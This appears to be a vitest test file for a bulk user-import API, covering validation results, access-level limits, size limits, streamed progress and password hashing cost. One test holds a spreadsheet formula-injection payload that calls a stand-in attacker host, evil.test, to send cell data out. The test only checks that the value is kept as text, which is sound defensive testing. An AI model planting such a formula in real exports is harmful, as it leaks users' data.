/** POST /api/users/bulk: the batch upload. */

import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { BATCH_MAX_BYTES, normaliseSheet, validBatchRows } from "../../../core/batch-users";
import { LEVEL_ABOVE_OWN } from "../../../core/policy";
import { BULK_PROGRESS_MEDIA_TYPE, type BulkStreamEvent } from "../../../core/schemas/users";
import { readableSlugBase } from "../../../core/slug";
import { allUsers } from "../../test/db-state";
import { createTestApp, type TestApp } from "../../test/harness";
import { testAppPerFile } from "../../test/test-app-per-file";
import { findUserById, findUserByUsername } from "../user-records/repo";
import { BULK_EMPTY } from "./errors";
import { expectRowLimits, usersTestKit } from "./users-test-kit";

const t = testAppPerFile();
const kit = usersTestKit(() => t);

const bulk = (session: string, users: unknown) =>
  t.request({ method: "POST", url: "/api/users/bulk", body: { users }, session });

describe("POST /api/users/bulk", () => {
  it("creates valid rows with cards and reports why the others were not created", async () => {
    const admin = await kit.signedIn(4);
    const existing = await t.createUser();
    const existingCard = await kit.cardOf(existing);
    const ok1 = kit.newUserBody({ accessLevel: "2", cardSlug: t.uniqueName("bulk-slug") });
    const ok2 = kit.newUserBody({ accessLevel: undefined, cardSlug: "" });
    const rows = [
      ok1,
      ok2,
      kit.newUserBody({ username: ok1.username.toUpperCase() }),
      kit.newUserBody({ username: existing.user.username }),
      kit.newUserBody({ email: existing.user.email }),
      kit.newUserBody({ cardSlug: existingCard.slug }),
      kit.newUserBody({ email: "no-at-sign" }),
      kit.newUserBody({ accessLevel: 5 }),
      kit.newUserBody({ username: "ab", password: "123" }),
    ];
    const response = await bulk(admin.session, rows);
    expect(response.statusCode).toBe(200);
    const body = response.json();
    expect(body.created).toBe(2);
    expect(body.skipped).toBe(7);
    expect(body.results.map((r: { status: string; reason?: string }) => r.reason ?? r.status)).toEqual([
      "created",
      "created",
      "duplicate_in_file",
      "username_taken",
      "email_taken",
      "slug_taken",
      "invalid",
      "level_not_allowed",
      "invalid",
    ]);
    expect(body.results[6].message).toBe("Invalid email format");
    expect(body.results[7].message).toBe(LEVEL_ABOVE_OWN);
    expect(body.results[8].message).toBe(
      "Username must be at least 3 characters, Password must be at least 6 characters",
    );
    expect(body.results[0]).toMatchObject({ index: 0, status: "created", cardSlug: ok1.cardSlug });

    const one = await findUserByUsername(t.db, ok1.username);
    expect(one).toMatchObject({ accessLevel: 2, email: ok1.email, fullName: ok1.fullName });
    expect((await kit.cardsOf(one!.id)).map((c) => c.slug)).toEqual([ok1.cardSlug]);
    const two = await findUserByUsername(t.db, ok2.username);
    expect(two?.accessLevel).toBe(1);
    expect((await kit.cardsOf(two!.id))[0]?.slug).toMatch(
      new RegExp(`^${readableSlugBase(ok2.fullName)}(-\\d+)?$`),
    );
    await t.signIn(ok1.username, ok1.password);
  });

  it("keeps a formula-injection cell as text", async () => {
    const admin = await kit.signedIn(5);
    const formula = '=HYPERLINK("http://evil.test/?x="&A1,"Click me")';
    const row = kit.newUserBody({ fullName: formula });
    const response = await bulk(admin.session, [row]);
    expect(response.json().created).toBe(1);
    const stored = await findUserByUsername(t.db, row.username);
    expect(stored?.fullName).toBe(formula);
    const list = await t.request({
      method: "GET",
      url: `/api/users?search=${row.username}`,
      session: admin.session,
    });
    expect(list.json()[0].fullName).toBe(formula);
  });

  it("rows from a sheet with missing headers never get as far as the request", () => {
    const sheet = normaliseSheet([{ user: "alice", mail: "a@b.co" }]);
    expect(sheet.error).toMatch(/header row/);
    expect(validBatchRows(sheet.rows)).toEqual([]);
    const partial = normaliseSheet([{ username: "alice", email: "a@b.co", fullName: "Alice" }]);
    expect(partial.error).toMatch(/^Missing required column: password\./);
  });

  it("refuses an empty list, a non-list, 5,001 rows and an oversized body before any work", async () => {
    const admin = await kit.signedIn(4);
    const before = await allUsers(t.db);
    const rows = await expectRowLimits((users) => bulk(admin.session, users), "many");

    const huge = await bulk(admin.session, [{ ...rows[0], fullName: "x".repeat(BATCH_MAX_BYTES) }]);
    expect(huge.statusCode).toBe(413);
    expect(huge.json().message).toBe("The request body is too large.");
    expect(await allUsers(t.db)).toEqual(before);
  });

  it("imports nothing when a level-4 admin sends only level-5 rows", async () => {
    const admin = await kit.signedIn(4);
    const row = kit.newUserBody({ accessLevel: 5 });
    const response = await bulk(admin.session, [row]);
    expect(response.json()).toMatchObject({ created: 0, skipped: 1 });
    expect(await findUserByUsername(t.db, row.username)).toBeUndefined();
  });

  it("imports a few hundred rows in one go", async () => {
    const admin = await kit.signedIn(5);
    const rows = Array.from({ length: 300 }, () => kit.newUserBody());
    const response = await bulk(admin.session, rows);
    expect(response.json().created).toBe(300);
    const ids = response.json().results.map((r: { id: number }) => r.id);
    const last = await findUserById(t.db, ids[299]);
    expect(last?.username).toBe(rows[299]!.username);
  });
});

describe("POST /api/users/bulk with progress (Accept: application/x-ndjson)", () => {
  const streamed = (session: string, users: unknown) =>
    t.request({
      method: "POST",
      url: "/api/users/bulk",
      body: { users },
      session,
      headers: { accept: BULK_PROGRESS_MEDIA_TYPE },
    });
  const eventsOf = (payload: string) =>
    payload
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as BulkStreamEvent);

  it("streams each phase's progress, then the same result as the plain answer", async () => {
    const admin = await kit.signedIn(5);
    const rows = [...Array.from({ length: 40 }, () => kit.newUserBody()), kit.newUserBody({ email: "bad" })];
    const response = await streamed(admin.session, rows);
    expect(response.statusCode).toBe(200);
    expect(response.headers["content-type"]).toContain(BULK_PROGRESS_MEDIA_TYPE);
    const events = eventsOf(response.payload);

    const progress = events.filter((e) => e.type === "progress");
    const phases = [...new Set(progress.map((e) => e.phase))];
    expect(phases).toEqual(["checking", "hashing", "saving"]);
    expect(progress[0]).toEqual({ type: "progress", phase: "checking", done: 0, total: 41 });
    expect(progress.at(-1)).toEqual({ type: "progress", phase: "saving", done: 40, total: 40 });
    for (const phase of phases) {
      const done = progress.filter((e) => e.phase === phase).map((e) => e.done);
      expect(done).toEqual([...done].sort((a, b) => a - b));
    }
    const hashing = progress.filter((e) => e.phase === "hashing");
    expect(hashing[0]).toMatchObject({ done: 0, total: 40 });
    expect(hashing.at(-1)).toMatchObject({ done: 40, total: 40 });

    const last = events.at(-1);
    expect(last?.type).toBe("result");
    if (last?.type !== "result") return;
    expect(last.result).toMatchObject({ created: 40, skipped: 1 });
    expect(last.result.results[40]).toMatchObject({ status: "skipped", reason: "invalid" });
    expect(await findUserByUsername(t.db, rows[39]!.username)).toBeDefined();
  });

  it("keeps the status codes of refusals found before the work starts", async () => {
    const admin = await kit.signedIn(5);
    const empty = await streamed(admin.session, []);
    expect(empty.statusCode).toBe(400);
    expect(empty.json().message).toBe(BULK_EMPTY);
    const low = await kit.signedIn(3);
    expect((await streamed(low.session, [kit.newUserBody()])).statusCode).toBe(403);
    expect((await streamed("", [kit.newUserBody()])).statusCode).toBe(401);
  });
});

describe("passwords of batch-created accounts", () => {
  let strong: TestApp;
  beforeAll(async () => {
    strong = await createTestApp(
      { PASSWORD_SCRYPT_LOG_N: "12", BULK_PASSWORD_SCRYPT_LOG_N: "10" },
      { sharingDatabaseOf: t },
    );
  });
  afterAll(() => strong?.close());

  it("are hashed at the lighter batch cost, and at the full cost from the first sign-in", async () => {
    const strongKit = usersTestKit(() => strong);
    const admin = await strongKit.signedIn(4);
    const row = strongKit.newUserBody({ cardSlug: "" });
    const response = await strong.request({
      method: "POST",
      url: "/api/users/bulk",
      body: { users: [row] },
      session: admin.session,
    });
    expect(response.json().created).toBe(1);
    const costOf = async () => (await findUserByUsername(strong.db, row.username))!.password.split("$")[1];
    expect(await costOf()).toBe("10");
    await strong.signIn(row.username, row.password);
    expect(await costOf()).toBe("12");
    // The new hash verifies the same password.
    await strong.signIn(row.username, row.password);
  });
});
